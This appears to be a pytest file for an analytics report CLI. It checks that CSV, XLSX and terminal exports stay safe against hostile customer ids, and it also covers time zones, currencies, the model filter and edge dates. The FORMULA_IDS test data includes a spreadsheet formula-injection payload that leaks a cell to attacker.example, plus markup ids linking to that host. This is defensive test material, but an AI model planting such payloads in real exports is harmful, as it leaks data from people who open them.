"""Reports facing hostile or unusual input: customer ids that look like formulas or rich markup, a
database session in another time zone than the ledger, several currencies, the --model filter in every
section, and dates at the edge of the calendar. All through real PostgreSQL, most through the CLI."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook
from rich.console import Console
from sqlalchemy.engine import Connection, Engine
from typer.testing import CliRunner

from analytics.forecast import mrr_currencies, mrr_series, revenue_currencies, revenue_series
from analytics.forecast_report import build_forecast_report
from analytics.model import Column, Report, Section
from analytics.render import render
from analytics.render.csv_render import parse_report_csv
from analytics.token_report import TokenFilters
from cli.errors import CommandError
from cli.main import app
from tests import analytics_support as support
from tests.ledger_support import S, publish_shipped

ROOT = Path(__file__).resolve().parent.parent
# Customer ids are free text chosen by the app (user ids, phone numbers): each of these is a formula to a
# spreadsheet that opens the export.
FORMULA_IDS = (
    '=HYPERLINK("http://attacker.example/?leak="&B2,"Click_for_details")',
    "+919876543210",
    "-2+3",
    "@SUM(A1)",
)


@pytest.fixture
def cli(engine: Engine, pg_url: str, tmp_path: Path) -> Any:
    publish_shipped(engine)

    def run(*args: str, code: int = 0) -> Any:
        result = CliRunner(env={"COLUMNS": "200"}).invoke(
            app, ["report", *args, "--config", str(tmp_path), "--database-url", pg_url]
        )
        if isinstance(result.exception, CommandError):
            assert code == 1, f"{result.exception.message} ({result.exception.fix})"
            return result.exception
        assert result.exit_code == code, result.output + repr(result.exception)
        return result

    return run


def _usage_by(engine: Engine, customers: tuple[str, ...]) -> None:
    """Each customer makes one request in March 2026, the first the most credits."""
    with engine.begin() as conn:
        for n, customer in enumerate(customers):
            support.customer(conn, customer)
            support.usage(conn, customer, "gpt-4o", f"r{n}", f"2026-03-1{n} 10:00", 100, 50, 400 - 100 * n)


# ------------------------------------------------------------------------ 1. formulas in CSV and XLSX


def test_csv_export_defuses_customer_ids_that_read_as_formulas(engine: Engine, cli: Any) -> None:
    _usage_by(engine, FORMULA_IDS)
    out = cli("tokens", "--from", "2026-03-01", "--to", "2026-03-31", "--by", "customer", "--format", "csv")
    rows = parse_report_csv(out.output)["breakdown"]
    assert rows[0][:3] == ["Customer", "Requests", "Credits"]
    cells = {row[0]: row[2] for row in rows[1:]}
    # A leading apostrophe makes Excel, LibreOffice and Sheets show the id as text; the figures beside
    # it stay plain numbers.
    assert cells == {f"'{cid}": str(400 - 100 * n) for n, cid in enumerate(FORMULA_IDS)}
    top = parse_report_csv(out.output)["top_consumers"]
    assert [row[0] for row in top[1:]] == [f"'{cid}" for cid in FORMULA_IDS]


def test_xlsx_export_writes_customer_ids_as_text_never_as_formulas(
    engine: Engine, cli: Any, tmp_path: Path
) -> None:
    _usage_by(engine, FORMULA_IDS)
    path = tmp_path / "tokens.xlsx"
    cli(
        "tokens",
        *("--from", "2026-03-01", "--to", "2026-03-31", "--by", "customer"),
        *("--customer", FORMULA_IDS[0], "--format", "xlsx", "--out", str(path)),
    )
    workbook = load_workbook(path)
    sheet = workbook["Usage by customer"]
    customer, credits = sheet["A2"], sheet["C2"]
    assert (customer.value, customer.data_type) == (FORMULA_IDS[0], "s")
    assert customer.quotePrefix  # Excel's own "text" mark: it stays text even after the cell is edited
    assert (credits.value, credits.data_type) == (400, "n")
    cover = {row[0].value: row[1] for row in workbook["Report"].iter_rows(min_row=3, max_col=2)}
    assert (cover["Filter: customer"].value, cover["Filter: customer"].data_type) == (FORMULA_IDS[0], "s")

    path = tmp_path / "all.xlsx"
    cli(
        "tokens",
        "--from",
        "2026-03-01",
        "--to",
        "2026-03-31",
        "--by",
        "customer",
        "--format",
        "xlsx",
        "--out",
        str(path),
    )
    sheet = load_workbook(path)["Usage by customer"]
    written = {sheet.cell(row=r, column=1).value: sheet.cell(row=r, column=1) for r in range(2, 6)}
    assert set(written) == set(FORMULA_IDS)
    assert {cell.data_type for cell in written.values()} == {"s"}
    assert [sheet.cell(row=r, column=3).data_type for r in range(2, 6)] == ["n"] * 4


def test_numbers_stay_numbers_and_hidden_formula_prefixes_are_defused(tmp_path: Path) -> None:
    section = Section(
        "moves",
        "Movements",
        (Column("who", "Who", "text"), Column("change", "Change", "money"), Column("n", "Count", "int")),
        (("\t=1+1", Decimal("-12.50"), -3), ("\r@A1", Decimal("4.00"), 2), ("plain - text", Decimal(0), 0)),
        currency="USD",
    )
    report = Report(
        "revenue", "Revenue", date(2026, 3, 1), date(2026, 3, 31), {}, (section,), datetime.now(UTC)
    )
    render(report, "csv", tmp_path / "r.csv", Console())
    with (tmp_path / "r.csv").open(encoding="utf-8", newline="") as handle:  # keep the \r in the cell
        rows = list(csv.reader(io.StringIO(handle.read().split("\n", 1)[1])))
    assert rows[1:3] == [["'\t=1+1", "-12.50", "-3"], ["'\r@A1", "4.00", "2"]]
    assert rows[3] == ["plain - text", "0.00", "0"]
    render(report, "xlsx", tmp_path / "r.xlsx", Console())
    sheet = load_workbook(tmp_path / "r.xlsx")["Movements"]
    assert [(c.value, c.data_type) for c in sheet[2]] == [
        ("\t=1+1", "s"),
        (Decimal("-12.50"), "n"),
        (-3, "n"),
    ]


# ------------------------------------------------------------- 2. forecasts in a foreign session zone


@pytest.mark.parametrize("session_zone", ["UTC", "America/New_York"])
def test_forecast_series_cut_days_at_local_midnight_whatever_the_session_zone(
    engine: Engine, session_zone: str
) -> None:
    publish_shipped(engine)
    with engine.begin() as conn:
        support.customer(conn, "a")
        support.payment(
            conn, "before", "a", "pro", "USD", 9900, "2026-02-28 23:00"
        )  # the day before the window
        support.payment(
            conn, "early", "a", "pro", "USD", 1000, "2026-03-01 03:00"
        )  # first day, early morning
        support.payment(conn, "late", "a", "pro", "USD", 3000, "2026-03-03 23:30")  # last day, late evening
        support.payment(
            conn, "after", "a", "pro", "USD", 7700, "2026-03-04 08:00"
        )  # the day after the window
        # The subscription starts paying at 08:00 on the 3rd: no MRR at the end of the 2nd.
        support.states(conn, "sa", "a", [("pro", "monthly", "USD", "active", 1900, "2026-03-03 08:00", None)])
    with engine.begin() as conn:
        conn.execute(sa.text(f"SET LOCAL TIME ZONE '{session_zone}'"))
        collected = revenue_series(conn, S, date(2026, 3, 1), date(2026, 3, 3), "USD")
        mrr = mrr_series(conn, S, date(2026, 3, 1), date(2026, 3, 3), "USD")
        in_window = revenue_currencies(conn, S, date(2026, 3, 4), date(2026, 3, 4))
        none_yet = revenue_currencies(conn, S, date(2026, 3, 5), date(2026, 3, 9))
    assert list(collected.index.date) == [date(2026, 3, 1), date(2026, 3, 2), date(2026, 3, 3)]
    assert list(collected) == [10.0, 0.0, 30.0]
    assert list(mrr) == [0.0, 0.0, 19.0]
    assert in_window == ["USD"] and none_yet == []


def _today(conn: Connection) -> date:
    value = conn.execute(sa.text(f"SELECT (now() AT TIME ZONE {S}.token_timezone())::date")).scalar_one()
    assert isinstance(value, date)
    return value


def test_revenue_forecast_leaves_todays_partial_day_out_in_a_utc_session(engine: Engine) -> None:
    publish_shipped(engine)
    with engine.begin() as conn:
        today = _today(conn)
        support.customer(conn, "a")
        for back in range(1, 43):
            support.payment(
                conn, f"t{back}", "a", "pro", "USD", 1000, f"{today - timedelta(days=back)} 12:00"
            )
        support.payment(conn, "today", "a", "pro", "USD", 7700, f"{today} 08:00")
    with engine.begin() as conn:
        conn.execute(sa.text("SET LOCAL TIME ZONE 'UTC'"))
        report = build_forecast_report(conn, S, "revenue", 7, basis="collected")
    history = report.section("history")
    assert history.title == "Collected per day, last 42 complete days"
    assert history.rows[-1] == (today - timedelta(days=1), Decimal("10.00"))
    assert all(amount == Decimal("10.00") for _, amount in history.rows)
    assert report.section("forecast").rows[0][0] == today
    assert "fitted on 42 complete days" in report.notes[0]


# ------------------------------------------------------------ 3. the default currency, compared in USD


def test_default_revenue_currency_is_the_largest_in_usd_not_in_minor_units(engine: Engine) -> None:
    publish_shipped(engine)
    with engine.begin() as conn:
        today = _today(conn)
        support.customer(conn, "us")
        support.customer(conn, "in")
        for back in range(1, 36):  # $40 a day: $1,400 (140,000 cents)
            support.payment(
                conn, f"u{back}", "us", "pro", "USD", 4000, f"{today - timedelta(days=back)} 12:00"
            )
        # ₹1,499 once: 149,900 paise, about $17.74 at 84.5 INR per USD
        support.payment(conn, "i1", "in", "pro", "INR", 149900, f"{today - timedelta(days=3)} 12:00")
        # MRR: $19 (1,900 cents) against ₹1,499 (149,900 paise, about $17.74)
        support.states(
            conn, "su", "us", [("pro", "monthly", "USD", "active", 1900, "2026-01-01 00:00", None)]
        )
        support.states(
            conn, "si", "in", [("pro", "monthly", "INR", "active", 149900, "2026-01-01 00:00", None)]
        )
    with engine.begin() as conn:
        assert revenue_currencies(conn, S, None, today) == ["USD", "INR"]
        assert mrr_currencies(conn, S) == ["USD", "INR"]
        report = build_forecast_report(conn, S, "revenue", 7)
    assert report.filters["currency"] == "USD"
    assert report.section("history").rows[-1] == (today - timedelta(days=1), Decimal("40.00"))


# ---------------------------------------------------------------------- 4. --model in utilisation


def test_model_filter_applies_to_plan_utilisation_and_its_hints(engine: Engine) -> None:
    publish_shipped(engine)
    with engine.begin() as conn:
        support.customer(conn, "a")
        support.states(conn, "sa", "a", [("pro", "monthly", "USD", "active", 1900, "2026-01-01 00:00", None)])
        for month in ("02", "03"):
            support.allowance(conn, "a", 1000, f"2026-{month}-01 00:00")
            support.usage(conn, "a", "gpt-4o", f"g{month}", f"2026-{month}-10 10:00", 10, 10, 50)
            support.usage(conn, "a", "claude-3-5-sonnet", f"c{month}", f"2026-{month}-11 10:00", 10, 10, 850)
    period = support.period("2026-02-01", "2026-03-31")

    def plan_line(model: str | None) -> tuple[Any, ...]:
        report = support.tokens(engine, period, TokenFilters(model=model), by="model")
        (row,) = report.section("utilisation").rows
        hints = {(r[0], r[1]) for r in report.section("hints").rows}
        return row[4], row[5], hints

    everything = plan_line(None)
    assert everything == (1800, Decimal("0.9000"), {("upsell", "a")})
    # gpt-4o alone used 100 of the 2,000 credits granted: the plan looks underused, nobody is near a limit.
    assert plan_line("gpt-4o") == (100, Decimal("0.0500"), {("allowance mostly unused", "pro")})
    assert plan_line("claude-3-5-sonnet") == (1700, Decimal("0.8500"), {("upsell", "a")})


# ------------------------------------------------------------------------ 5. rich markup in the terminal


def test_terminal_report_shows_bracketed_customer_ids_verbatim(engine: Engine, cli: Any) -> None:
    ids = ("tenant[admin]", "user[/]", "ops[link=http://attacker.example]x", ":smile:")
    _usage_by(engine, ids)
    text = cli("tokens", "--from", "2026-03-01", "--to", "2026-03-31", "--by", "customer").output
    for customer in ids:
        assert f"│ {customer} " in text
    filtered = cli("tokens", "--from", "2026-03-01", "--to", "2026-03-31", "--customer", "user[/]").output
    assert "filters: customer=user[/], by=day" in filtered
    assert "│ user[/] " in filtered


# ---------------------------------------------------------------------------- 6. dates at the edges


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("tokens", "--to", "9999-12-31"), "--to 9999-12-31 is outside the dates reports cover"),
        (("revenue", "--to", "0001-03-01"), "--to 0001-03-01 is outside the dates reports cover"),
        (("tokens", "--from", "0001-01-01", "--to", "2026-03-01"), "--from 0001-01-01 is outside"),
    ],
)
def test_dates_beyond_the_calendar_are_refused_with_a_fix(
    cli: Any, args: tuple[str, ...], message: str
) -> None:
    error = cli(*args, code=1)
    assert message in error.message
    assert "1900-01-01" in error.fix and "9998-12-31" in error.fix


@pytest.mark.parametrize(
    "args",
    [
        ("tokens", "--to", "9998-12-31"),
        ("tokens", "--from", "9998-12-05", "--to", "9998-12-31"),
        ("revenue", "--to", "9998-12-31"),
        ("revenue", "--to", "1900-03-01"),
    ],
)
def test_the_last_and_first_dates_covered_still_report(cli: Any, args: tuple[str, ...]) -> None:
    data = json.loads(cli(*args, "--format", "json").output)
    assert data["period"]["to"] == args[-1]


def test_out_of_range_date_exits_1_with_an_error_not_a_crash(
    engine: Engine, pg_url: str, tmp_path: Path
) -> None:
    publish_shipped(engine)
    env = {**os.environ, "TARIFF_DEBUG": ""}
    result = subprocess.run(
        [
            *(sys.executable, "-m", "cli", "report", "tokens", "--to", "9999-12-31"),
            *("--config", str(tmp_path), "--database-url", pg_url),
        ],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert result.returncode == 1
    assert "internal error" not in result.stderr
    assert "--to 9999-12-31 is outside the dates reports cover" in result.stderr
    assert "fix:" in result.stderr


def test_the_written_path_is_shown_verbatim(cli: Any, tmp_path: Path) -> None:
    path = tmp_path / "march[red]" / "tokens[bold].csv"
    path.parent.mkdir()
    period = ("--from", "2026-03-01", "--to", "2026-03-31")
    result = cli("tokens", *period, "--format", "csv", "--out", str(path))
    assert path.is_file() and f"wrote {path}" in result.output.replace("\n", "")
